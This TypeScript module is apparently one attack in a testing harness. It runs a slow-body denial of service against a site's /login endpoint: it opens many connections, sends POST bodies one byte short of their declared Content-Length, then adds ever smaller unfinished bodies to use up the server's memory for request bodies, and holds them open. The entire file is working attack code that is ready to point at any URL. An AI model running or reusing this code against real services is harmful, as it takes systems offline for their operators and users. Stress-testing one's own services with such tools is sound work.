import { setTimeout as sleep } from "node:timers/promises";
import { type Attack, endSockets, openSockets } from "../attack.ts";

/** By then the shop has read as much as it accepts. */
const ARRIVED_AFTER_MS = 1_000;
const NEXT_AFTER_MS = 20;
const SMALLEST = 16;

/**
 * Sends bodies without their last byte, and waits: many of one size, then smaller and smaller ones,
 * which use up what is left of the memory for bodies.
 */
export const attack: Attack<{ connections: number; bytes: number; forMs: number }> = async (
  { url },
  { connections, bytes, forMs },
) => {
  const sockets = openSockets(url, connections, unfinished(url, bytes));
  await sleep(ARRIVED_AFTER_MS);
  for (let size = bytes / 2; size > SMALLEST; size /= 2) {
    await sleep(NEXT_AFTER_MS);
    sockets.push(...openSockets(url, 1, unfinished(url, Math.floor(size))));
  }
  for (const socket of sockets) socket.resume();
  await sleep(forMs);
  return endSockets(sockets);
};

function unfinished(url: string, bytes: number): string {
  const head = [
    "POST /login HTTP/1.1",
    `Host: ${new URL(url).host}`,
    "Sec-Fetch-Site: same-origin",
    "Content-Type: application/x-www-form-urlencoded",
    `Content-Length: ${bytes}`,
  ].join("\r\n");
  return `${head}\r\n\r\n${"a".repeat(bytes - 1)}`;
}
